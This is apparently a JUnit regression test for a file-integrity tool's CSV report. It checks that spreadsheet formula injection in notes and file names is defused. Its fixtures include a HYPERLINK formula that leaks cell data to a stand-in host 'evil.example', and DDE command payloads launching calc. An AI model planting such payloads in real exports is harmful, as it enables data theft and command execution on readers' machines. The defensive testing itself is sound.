package dev.fim.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, defect 8: {@code fim report --format csv} wrote a note {@code =HYPERLINK("http://…")}
 * from {@code fim accept} as is, so the auditor's spreadsheet ran it. Every cell that a spreadsheet
 * would take for a formula is now written quoted with a leading single quote (OWASP).
 */
class CsvInjectionTest {
  @TempDir Path tmp;

  private static final String HYPERLINK =
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click for details\")";
  private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
  private static final String TABBED = "\t=1+2";
  private static final String SPACED = "  +SUM(A1:A9)";
  private static final String FULL_WIDTH = "\uff1dcmd|' /C calc'!A0";

  @Test
  void formulasFromAcceptNotesAndFileNamesAreDefused() throws Exception {
    EtcTree t = EtcTree.in(tmp, "");
    assertEquals(0, fim(t, "init").exit());
    // Files named by whoever made the change (a local user can create them in a watched tree).
    List<String> names = List.of("=cmd|' -c calc'!A0", "+SUM(1,2)", "-2+3", "@x", "a,=b");
    for (String n : names) {
      Files.writeString(t.tree().resolve("etc").resolve(n), "x\n");
    }
    Files.writeString(t.tree().resolve("etc/hosts"), "10.0.0.9 backup\n");
    assertEquals(ExitCodes.ADDED | ExitCodes.CHANGED, fim(t, "check").exit());
    List<String> notes = List.of(HYPERLINK, DDE, TABBED, SPACED, FULL_WIDTH, "-1");
    List<Path> accepted =
        List.of(
            t.tree().resolve("etc/hosts"),
            t.tree().resolve("etc").resolve(names.get(0)),
            t.tree().resolve("etc").resolve(names.get(1)),
            t.tree().resolve("etc").resolve(names.get(2)),
            t.tree().resolve("etc").resolve(names.get(3)),
            t.tree().resolve("etc").resolve(names.get(4)));
    for (int i = 0; i < notes.size(); i++) {
      Fim.Run a = fim(t, "accept", accepted.get(i).toString(), "--note", notes.get(i));
      assertEquals(0, a.exit(), a.toString());
    }

    java.time.Instant now = java.time.Instant.now();
    String until = now.toString();
    String since =
        now.minusSeconds(3600).toString(); // a fixed period, for the JSON twin's digest below
    Fim.Run csv =
        Fim.run(
            "report",
            "--db",
            t.db().toString(),
            "--key",
            t.key().toString(),
            "--since",
            since,
            "--until",
            until,
            "--format",
            "csv");
    assertEquals(0, csv.exit(), csv.toString());
    List<List<String>> rows = parse(csv.out());
    List<String> header = rows.get(0);
    int note = header.indexOf("note");
    int path = header.indexOf("path");
    int sequence = header.indexOf("sequence");
    List<String> noteCells = new ArrayList<>();
    for (List<String> row : rows.subList(1, rows.size())) {
      for (String cell : row) {
        assertFalse(CsvRule.dangerous(cell), "a cell a spreadsheet runs: [" + cell + "] in " + row);
      }
      noteCells.add(row.get(note));
      assertTrue(row.get(path).startsWith(t.tree().toString()), row.get(path));
      assertTrue(
          row.get(sequence).matches("[0-9]+"), "numbers are left alone: " + row.get(sequence));
    }
    for (String n : notes.subList(0, notes.size() - 1)) {
      assertTrue(
          noteCells.contains("'" + n),
          "the note, defused and otherwise exact: '" + n + " in " + noteCells);
    }
    assertTrue(noteCells.contains("-1"), "a plain integer stays a number: " + noteCells);
    // The raw text: defused cells are quoted, so the quote character is inside the cell.
    assertTrue(csv.out().contains(",\"'=HYPERLINK(\"\"http://evil.example/"), csv.out());

    // The CSV's data digest is the JSON twin's, and that verifies: defusing changes the rendering,
    // not the data.
    Path json = tmp.resolve("twin.json");
    Fim.Run twin =
        Fim.run(
            "report",
            "--db",
            t.db().toString(),
            "--key",
            t.key().toString(),
            "--since",
            since,
            "--until",
            until,
            "--format",
            "json",
            "--output",
            json.toString());
    assertEquals(0, twin.exit(), twin.toString());
    assertEquals(digest(csv.err()), digest(twin.out()));
    Fim.Run verify =
        Fim.run(
            "report",
            "--db",
            t.db().toString(),
            "--key",
            t.key().toString(),
            "--verify",
            json.toString());
    assertEquals(0, verify.exit(), verify.toString());
    assertTrue(
        Files.readString(json).contains(jsonString(HYPERLINK)),
        "JSON keeps the note as it was written");
  }

  private static Fim.Run fim(EtcTree t, String... args) {
    return Fim.on(t.db(), t.key(), t.conf(), args);
  }

  private static String digest(String line) {
    Matcher m = Pattern.compile("data SHA-256 ([0-9a-f]{64})").matcher(line);
    assertTrue(m.find(), line);
    return m.group(1);
  }

  private static String jsonString(String s) {
    return s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t");
  }

  /**
   * OWASP's test of a cell, independent of the code under test (what a spreadsheet would evaluate).
   */
  private static final class CsvRule {
    static boolean dangerous(String cell) {
      if (cell.matches("-[0-9]+")) {
        return false;
      }
      String trimmed = cell.stripLeading();
      return !cell.isEmpty()
          && ("=+-@\t\r\n".indexOf(cell.charAt(0)) >= 0
              || (!trimmed.isEmpty()
                  && "=+-@\uff1d\uff0b\uff0d\uff20".indexOf(trimmed.charAt(0)) >= 0));
    }
  }

  /** An RFC 4180 reader: CRLF rows, quoted cells with doubled quotes. */
  static List<List<String>> parse(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    assertTrue(row.isEmpty() && cell.length() == 0, "the CSV ends with CRLF");
    return rows;
  }
}
